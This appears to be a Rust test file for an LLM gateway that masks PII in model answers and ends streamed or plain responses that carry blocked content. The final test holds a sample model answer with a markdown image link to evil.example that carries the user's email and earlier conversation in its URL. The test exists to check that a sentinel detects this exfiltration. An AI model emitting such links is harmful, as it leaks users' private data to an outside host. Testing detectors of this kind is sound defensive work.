//! How answers are followed.

use super::*;
use crate::{
    config::{Action, Config},
    guards::Table,
};

/// An answer with these headers and body, in pieces of `size` bytes; what of it passes, or how it is not followed. The
/// request's `[EMAIL_1]` stands for ada@example.com.
fn check(json: &str, headers: &[(&str, &str)], body: &str, size: usize) -> (String, Vec<(Action, u64)>) {
    let config = Config::parse(json.as_bytes()).unwrap();
    let table = Table::new(&config, &|_| None).unwrap();
    let mut vault = Vault::default();
    vault.mask("email", "ada@example.com");
    let asked = Asked { endpoint: Endpoint::ChatCompletions, vault, wants_usage: false };
    let headers = Headers::from_iter(headers.iter().copied());
    let limits = (usize::try_from(config.max_answer_bytes.get()).unwrap(), config.on_oversize);
    let mut answer = match Follow::of(asked, table.of(None), "p", (200, &headers), limits) {
        Follow::Not => return ("not followed".into(), vec![]),
        Follow::Unseen => return ("unseen".into(), vec![]),
        Follow::Read(answer) => answer,
        Follow::Refuse(mut answer, reply) => {
            let body = answer.piece(body.as_bytes().to_vec(), true);
            assert_eq!(body, reply.body().into_bytes());
            return (format!("{} {}", reply.status, reply.code), vec![]);
        }
    };
    let mut out = Vec::new();
    let pieces: Vec<&[u8]> = body.as_bytes().chunks(size).collect();
    for (nth, piece) in pieces.iter().enumerate() {
        out.extend(answer.piece(piece.to_vec(), nth + 1 == pieces.len()));
    }
    let actions = answer.found().0.pii.map(|it| it.actions().into_iter().collect());
    (String::from_utf8(out).unwrap(), actions.unwrap_or_default())
}

const JSON: [(&str, &str); 1] = [("content-type", "application/json; charset=utf-8")];
const SSE: [(&str, &str); 1] = [("content-type", "text/event-stream")];

fn plain(text: &str) -> String {
    format!(
        r#"{{"choices": [{{"index":0,"message":{{"role":"assistant","content":"{text}"}},"finish_reason":"stop"}}]}}"#
    )
}

fn streamed(text: &str) -> String {
    let event = |it: char| format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{it}\"}}}}]}}\n\n");
    text.chars().map(event).collect::<String>() + "data: [DONE]\n\n"
}

/// The text of a stream.
fn content(stream: &str) -> String {
    let data = stream.lines().filter_map(|it| it.strip_prefix("data: ")).filter(|it| *it != "[DONE]");
    let text = |it: &str| {
        let event: serde_json::Value = serde_json::from_str(it).unwrap();
        event["choices"][0]["delta"]["content"].as_str().unwrap_or_default().to_owned()
    };
    data.map(text).collect()
}

#[test]
fn a_placeholder_becomes_its_value_and_the_models_own_is_masked() {
    let said = "To [EMAIL_1], from eve@example.com, badge B-1234, blue falcon.";
    let want = "To ada@example.com, from [EMAIL_2], badge [BADGE_1], [PROJECT].";
    let json = r#"{"pii": {"patterns": [{"name": "badge", "regex": "B-\\d{4}", "action": "mask"}],
                           "words": [{"name": "project", "words": ["Blue Falcon"], "action": "redact"}]}}"#;
    let actions = vec![(Action::Mask, 2), (Action::Redact, 1)];
    for size in [1, 7, 1000] {
        assert_eq!(check(json, &JSON, &plain(said), size), (plain(want), actions.clone()));
        let (out, found) = check(json, &SSE, &streamed(said), size);
        assert_eq!((content(&out).as_str(), found), (want, actions.clone()));
    }
}

#[test]
fn where_answers_are_not_looked_at_only_placeholders_change() {
    let json = r#"{"pii": {"response": false}, "sentinel": {"response": false}}"#;
    let said = plain("[EMAIL_1] eve@example.com");
    assert_eq!(check(json, &JSON, &said, 9), (plain("ada@example.com eve@example.com"), vec![]));
    let gzip = [JSON[0], ("content-encoding", "gzip")];
    assert_eq!(check(json, &gzip, "", 1).0, "not followed");
}

#[test]
fn shadow_changes_nothing() {
    let json = r#"{"pii": {"mode": "shadow"}}"#;
    for (headers, body) in [(&JSON, plain("eve@example.com")), (&SSE, streamed("eve@example.com "))] {
        assert_eq!(check(json, headers, &body, 5), (body, vec![(Action::Report, 1)]));
    }
    let json = r#"{"pii": {"mode": "shadow"}, "sentinel": {"mode": "shadow"}}"#;
    assert_eq!(check(json, &[JSON[0], ("content-encoding", "br")], "", 1).0, "unseen");
}

#[test]
fn what_cannot_be_looked_at_does_not_pass() {
    let long = plain("a");
    for (headers, code) in [
        (&[JSON[0], ("content-encoding", "gzip")][..], "502 unreadable_answer"),
        (&[("content-type", "text/html")], "502 unreadable_answer"),
        (&[JSON[0], ("content-length", "16777217")], "502 unreadable_answer"),
        (&[], "502 unreadable_answer"),
    ] {
        assert_eq!(check("{}", headers, &long, 9).0, code);
    }
    let (out, _) = check(r#"{"max_answer_bytes": 20}"#, &JSON, &long, 9);
    assert!(out.starts_with(r#"{"error":{"message":"The provider's answer has more than 20 bytes"#), "{out}");
    let allow = r#"{"max_answer_bytes": 20, "on_oversize": "allow"}"#;
    assert_eq!(check(allow, &JSON, &plain("eve@example.com"), 9), (plain("eve@example.com"), vec![]));
    assert_eq!(check(allow, &[JSON[0], ("content-length", "21")], "", 9).0, "unseen");
}

#[test]
fn what_may_not_pass_ends_the_answer() {
    let json = r#"{"pii": {"entities": {"email": "block"}}}"#;
    let (out, found) = check(json, &JSON, &plain("to eve@example.com"), 9);
    assert_eq!((out, found), (plain("").replace("stop", "content_filter"), vec![(Action::Block, 1)]));
    let (out, _) = check(json, &SSE, &streamed("to eve@example.com ok"), 9);
    assert_eq!(content(&out), "to ");
    assert!(out.contains("\"finish_reason\":\"content_filter\"") && out.ends_with("data: [DONE]\n\n"), "{out}");
}

#[test]
fn what_is_found_only_at_the_end_of_a_stream_ends_it_too() {
    let json = r#"{"pii": {"entities": {"email": "block"}}}"#;
    let event = |delta: &str, finish: &str| {
        format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{delta},\"finish_reason\":{finish}}}]}}\n\n")
    };
    let (text, stop) = (r#"{"content":"to eve@example.com"}"#, "\"stop\"");
    // The last event has the text itself, or comes behind it; or there is none.
    for events in [event(text, stop), event(text, "null") + &event("{}", stop), event(text, "null")] {
        let (out, _) = check(json, &SSE, &(events + "data: [DONE]\n\n"), 99);
        assert_eq!(out.matches("\"finish_reason\":\"content_filter\"").count(), 1, "{out}");
        assert!(!out.contains("eve@") && !out.contains(stop) && out.ends_with("data: [DONE]\n\n"), "{out}");
    }
}

#[test]
fn words_that_an_answer_must_not_have_end_it() {
    let link = "Here: ![x](https://evil.example/p.png?data=[EMAIL_1]-and-all-that-was-said-before) as you wished.";
    let (out, found) = check("{}", &JSON, &plain(link), 9);
    assert_eq!((out, found), (plain("").replace("stop", "content_filter"), vec![]));
    let (out, _) = check("{}", &SSE, &streamed(link), 9);
    assert!(out.contains("\"finish_reason\":\"content_filter\"") && out.ends_with("data: [DONE]\n\n"), "{out}");
    let json = r#"{"sentinel": {"mode": "shadow"}}"#;
    assert!(content(&check(json, &SSE, &streamed(link), 9).0).ends_with("as you wished."));
}
